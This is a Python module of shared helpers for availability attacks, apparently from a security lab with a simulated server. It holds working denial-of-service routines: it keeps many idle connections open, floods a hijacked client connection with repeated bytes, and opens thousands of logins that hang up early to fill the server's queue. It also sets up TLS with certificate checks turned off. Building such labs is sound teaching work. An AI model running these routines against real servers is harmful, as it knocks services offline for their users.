"""What attacks on availability share: many connections, and one that sends all that the other side takes."""

import asyncio
import contextlib
import socket
import ssl
from collections.abc import AsyncIterator, Callable, Coroutine
from typing import Any, cast

from attacks import Foothold
from common.client import Client
from common.errors import LabError

AT_ONCE, FIRST, MOST = 50, 800, 10_000
"""Of logins: side by side, before the scene goes on, and in all."""


async def until_over(foothold: Foothold, *work: Coroutine[Any, Any, int]) -> int:
    """Let all of this go on until the scene is over, and end it. Returns the sum of what each says that it did."""
    tasks = [asyncio.create_task(one) for one in work]
    await foothold.until("over")
    for task in tasks:
        task.cancel()
    return sum(await asyncio.gather(*tasks))


@contextlib.asynccontextmanager
async def held(foothold: Foothold, number: int) -> AsyncIterator[list[socket.socket]]:
    """So many connections at once, with nothing said yet, or as many as the server takes, until the block ends."""
    name, port = foothold.server
    address = await foothold.host.resolve(name)
    with contextlib.ExitStack() as made:
        connections: list[socket.socket] = []
        with contextlib.suppress(LabError):  # its queue is full: that is as good as it gets
            for _ in range(number):
                connections.append(made.enter_context(await foothold.host.connect(address, port)))
        yield connections


async def carol(foothold: Foothold) -> Client:
    """Her own client, in the room, with what it takes to speak to the others."""
    inside = asyncio.Event()
    client = await foothold.enter("carol", lambda show: inside.set() if show.text.startswith("here: ") else None)
    await inside.wait()
    return client


async def flood(client: Client, data: bytes) -> int:
    """A member sends this again and again, until this is cancelled, and is gone then. Returns the bytes."""
    spate = Spate.through(client, data)
    with contextlib.suppress(asyncio.CancelledError):
        await spate.run()
    spate.give_back(client)
    return spate.sent


class Spate(asyncio.Protocol):
    """Sends the same bytes again and again, as fast as they are taken; what comes back it reads and forgets."""

    def __init__(self, data: bytes = b"") -> None:
        self.data = data
        self.sent = 0
        self.over = asyncio.Event()
        """The connection is gone."""
        self._owner: Client | None = None
        self._room = asyncio.Event()
        self._room.set()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.Transport, transport)

    def pause_writing(self) -> None:
        self._room.clear()

    def resume_writing(self) -> None:
        self._room.set()

    def connection_lost(self, exc: Exception | None) -> None:
        self.over.set()
        self._room.set()
        if self._owner:
            self._owner.connection_lost(exc)

    def close(self) -> None:
        """End the connection at once, if it is there."""
        if not self.over.is_set():
            self.transport.abort()

    @classmethod
    def through(cls, client: Client, data: bytes) -> "Spate":
        """Take over the connection of a member's client."""
        spate = cls(data)
        spate.transport = client.transport
        client.transport.set_protocol(spate)
        return spate

    def give_back(self, client: Client) -> None:
        """Leave, with the client's connection, and let it know of the end."""
        client.close()
        self._owner = client
        if self.over.is_set():
            client.connection_lost(None)
        else:
            self.transport.abort()

    async def run(self) -> None:
        """Send until the connection is gone, or until this is cancelled."""
        while not (self.over.is_set() or self.transport.is_closing()):
            self.transport.write(self.data)
            self.sent += len(self.data)
            await self._room.wait()
            await asyncio.sleep(0)  # the members of the scene share this event loop


async def fill_the_queue(foothold: Foothold, login: bytes) -> int:
    """Log in again and again, and hang up each time before the answer, until the scene is over; the scene goes on once
    FIRST of them were made. Returns how many there were."""
    first = sum(await asyncio.gather(*(logins(foothold, login, FIRST // AT_ONCE) for _ in range(AT_ONCE))))
    foothold.note(f"{first} logins were made, and nobody waits for an answer")
    return first + await until_over(foothold, *(logins(foothold, login, MOST // AT_ONCE) for _ in range(AT_ONCE)))


async def logins(foothold: Foothold, login: bytes, number: int) -> int:
    """So many, one after the other, each on a connection of its own. Returns how many the server took."""
    made = 0
    with contextlib.suppress(asyncio.CancelledError):
        for _ in range(number):
            with contextlib.suppress(LabError):
                spate = await speaking(foothold, Spate)
                spate.transport.write(login)
                spate.transport.abort()  # what was written has gone out: it is little
                made += 1
                await spate.over.wait()
    return made


async def speaking(foothold: Foothold, make: Callable[[], Spate]) -> Spate:
    """A connection on which a stranger can speak, in TLS where the server wants that. Raises LabError."""
    loop, (name, port) = asyncio.get_running_loop(), foothold.server
    sock = await foothold.host.connect(await foothold.host.resolve(name), port)
    tls = careless() if foothold.stage.wants_authority else None
    try:
        _, spate = await loop.create_connection(make, sock=sock, ssl=tls, server_hostname="" if tls else None)
    except OSError as error:
        raise LabError(f"The server took no connection ({error}).") from None
    return spate


def careless() -> ssl.SSLContext:
    """TLS with whoever answers: it is the attacker who asks."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def client_hello() -> bytes:
    """The first message of a TLS handshake, as OpenSSL makes it."""
    outgoing = ssl.MemoryBIO()
    handshake = careless().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="server.lab.test")
    try:
        handshake.do_handshake()
    except ssl.SSLWantReadError:  # it waits for the answer
        return outgoing.read()
    raise AssertionError("a handshake without an answer cannot end")
